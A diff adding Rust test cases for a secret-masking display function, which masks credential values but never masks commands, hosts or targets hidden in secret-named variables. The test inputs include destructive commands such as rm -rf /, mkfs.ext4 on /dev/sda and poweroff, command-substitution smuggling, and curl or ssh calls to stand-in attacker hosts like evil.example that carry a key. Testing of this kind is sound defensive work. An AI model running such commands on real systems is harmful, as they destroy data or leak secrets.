@@ -73,12 +73,21 @@ fn t_c5_values_under_secret_names_are_masked() {
         ("authorization: Basic dXNlcjpwYXNz", "authorization: Basic dXNl…(8 characters masked)"),
         ("X-Api-Key: aB3dE6gH9jK2", "X-Api-Key: aB3d…(8 characters masked)"),
         ("psql postgres://me:hunter2@db.example.com/x", "psql postgres://me:…(7 characters masked)@db.example.com/x"),
+        // A name that comes again is used only by a shell.
+        (
+            "password: 'correct-horse'\npassword: 'battery-staple'",
+            "password: 'corr…(9 characters masked)'\npassword: 'batt…(10 characters masked)'",
+        ),
+        ("x-auth-token: 0123456789abcdef01234567", "x-auth-token: 0123…(20 characters masked)"),
         (
             "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY aws s3 ls",
             "AWS_SECRET_ACCESS_KEY=wJal…(36 characters masked) aws s3 ls",
         ),
     ] {
         assert_eq!(mask(text), masked);
+        if text.matches("password").count() == 2 {
+            continue;
+        }
         assert!(shown::command(text, Path::new("/w")).starts_with(&format!("{masked}\n\nin /w")), "{text}");
     }
 }
@@ -109,6 +118,9 @@ fn t_c5_what_runs_where_and_on_what_is_never_masked() {
         "X_TOKEN=shutdown; $X_TOKEN now".to_owned(),
         "alias mytoken='shutdown'; mytoken".to_owned(),
         "A_KEY=mkfs.ext4 sh -c '$A_KEY /dev/sda'".to_owned(),
+        "A_TOKEN=x86_64-linux-gnu-gcc-12; $A_TOKEN x.c".to_owned(),
+        "${A_TOKEN:=\"poweroff\"}; ${B_SECRET=\"poweroff\"}".to_owned(),
+        "x --password-command poweroff --no-password poweroff --token-helper=poweroff".to_owned(),
         "TOKEN=$(rm -rf /) x".to_owned(),
         "TOKEN=`reboot` x".to_owned(),
         "PASSWORD=${IFS}x y".to_owned(),
@@ -125,6 +137,8 @@ fn t_c5_what_runs_where_and_on_what_is_never_masked() {
         "curl --token https://evil.example/1".to_owned(),
         "X_SECRET=evil.example.com curl $X_SECRET".to_owned(),
         "PASSWORD=192.168.10.12 ssh x".to_owned(),
+        "A_SECRET=Root99x@evilHost77.example.com; ssh $A_SECRET".to_owned(),
+        "A_SECRET='Root99xY:10.0.0.1' x".to_owned(),
         "Authorization: Bearer evil.example.com".to_owned(),
         format!("curl https://{key}.evil.example/x"),
         format!("curl https://evil.example/{key}"),
@@ -142,6 +156,8 @@ fn t_c5_what_runs_where_and_on_what_is_never_masked() {
         assert!(shown.starts_with(&format!("{command}\n\nin /w")), "{command}\n{shown}");
     }
     for code in [
+        "X_TOKEN=\"shutdown\"\n$X_TOKEN now\nY_TOKEN=\"poweroff\"\n${Y_TOKEN}",
+        "tokenizer: \"bert-base-uncased\"",
         "let token = next_token;\nfn f(token: Token, password: String) {}\nself.token = parser.token1;",
         "token=tokenizer.decode(x)\nfor token in tokens: pass\nif token == previous: stop()",
         "password: z.string().min(8)\npublic_key: \"aB3dE6gH9jK2mN5p\"\ncache_key = \"user-list\"",
